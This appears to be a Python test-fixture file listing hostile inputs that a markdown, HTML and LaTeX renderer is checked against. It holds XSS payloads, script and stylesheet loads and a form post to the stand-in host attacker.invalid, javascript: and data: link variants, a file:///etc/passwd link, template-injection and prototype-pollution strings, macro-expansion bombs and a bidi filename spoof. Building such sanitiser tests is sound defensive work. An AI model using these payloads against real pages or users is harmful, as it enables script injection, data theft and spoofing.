"""Texts that would like to do something to whoever reads them. In each, ELSEWHERE stands for another server."""

ELSEWHERE = "attacker.invalid"

RUNS_NOTHING = {
    "script": f"A script\n\n<script>window.pwned = 1</script><script src=https://{ELSEWHERE}/a.js></script>",
    "event handlers": (
        f"Handlers\n\n<img src=x onerror='window.pwned=1'><img src=https://{ELSEWHERE}/b.png>\n"
        "<body onload=window.pwned=1><details open ontoggle=window.pwned=1><input autofocus onfocus=alert(1)>"
    ),
    "script links": (
        "Links\n\n[one](javascript:window.pwned=1) [two](JaVaScRiPt:alert(1))\n"
        "[three](data:text/html,<script>alert(1)</script>) [four](vbscript:alert(1))\n"
        "[five](java\tscript:alert(1)) <javascript:alert(1)> [six](&#106;avascript:alert(1))\n"
        "[seven]( javascript:alert(1)) [eight](file:///etc/passwd) [nine](blob:null/x)"
    ),
    "styles": (
        "Styles\n\n<style>body{display:none} *{background:url(https://" + ELSEWHERE + "/c)}</style>\n"
        f'<div style="position:fixed;inset:0;background:red;z-index:99999">covered</div>\n'
        f'<link rel=stylesheet href="https://{ELSEWHERE}/d.css">'
    ),
    "frames": (
        f"Frames\n\n<iframe src=https://{ELSEWHERE}/e srcdoc='<script>alert(1)</script>'></iframe>\n"
        f"<object data=https://{ELSEWHERE}/f></object><embed src=https://{ELSEWHERE}/g>\n"
        f"<form action=https://{ELSEWHERE}/h><button>Send</button></form><base href=https://{ELSEWHERE}/>\n"
        f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/i'>"
    ),
    "drawings": (
        f"Drawings\n\n<svg onload=alert(1)><script>alert(1)</script><image href=https://{ELSEWHERE}/j /></svg>\n"
        "<math><mtext><script>alert(1)</script></mtext><maction actiontype=statusline xlink:href=javascript:alert(1)>x"
    ),
    "pictures": (
        f"Pictures\n\n![big](https://{ELSEWHERE}/k.png) ![x](javascript:alert(1))\n"
        "![y](data:image/svg+xml,<svg/onload=alert(1)>)\n"
        f"[![nested](https://{ELSEWHERE}/l.png)](https://{ELSEWHERE}/m)\n\n[ref]: https://{ELSEWHERE}/n.png 'x'\n![ref]"
    ),
    "formulas": (
        r"Formulas $\href{javascript:alert(1)}{x}$ $\url{javascript:alert(1)}$ "
        rf"$\includegraphics{{https://{ELSEWHERE}/o.png}}$ $\htmlStyle{{position:fixed;inset:0}}{{x}}$ "
        r"$\htmlData{x=y}{z}$ $\htmlClass{mantine}{z}$ $\rule{99999em}{99999em}$ "
        r"$\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\def\d{\a\a}\a$ $\kern9999em x$ $\raisebox{9999em}{x}$"
    ),
    "templates": (
        'Templates\n\n{{constructor.constructor("window.pwned=1")()}} ${window.pwned=1} <%= 1 %>\n'
        "__proto__ [x]: __proto__"
    ),
    "priors that are none": (
        f"Priors\n\n[1] [99] [a](#prior-{'0' * 64}) [b](/message/..%2f..%2fhealth) [c](choir:zzz) [d](//{ELSEWHERE}/p)"
    ),
}

# Long lines, and letters that spill over their neighbours.
BREAKS_NO_LAYOUT = {
    "a long word": "w" * 4000,
    "a long link": f"https://example.org/{'a' * 3000}",
    "a long heading": "# " + "H" * 2000,
    "long code": "`" + "c" * 3000 + "`\n\n```\n" + "d" * 5000 + "\n```",
    "a wide table": "|" + "h|" * 60 + "\n|" + "-|" * 60 + "\n|" + "cell|" * 60,
    "a wide formula": "$$" + "+".join(f"x_{{{n}}}" for n in range(300)) + "$$",
    "deep quotes": ">" * 200 + " deep",
    "deep lists": "\n".join("  " * depth + "- item" for depth in range(60)),
    "zalgo": "Z" + "\u0300\u0301\u0302\u0316\u0317" * 150 + " spills over",
    "the largest text": "Large. " + "word " * ((64 * 1024 - 7) // 5),
    "emoji": "👩‍👩‍👧‍👦" * 500,
}

# Marks that turn the direction of what follows.
BIDI = "\u202e\u2067\u2066txt.exe\u202d right\u202e"
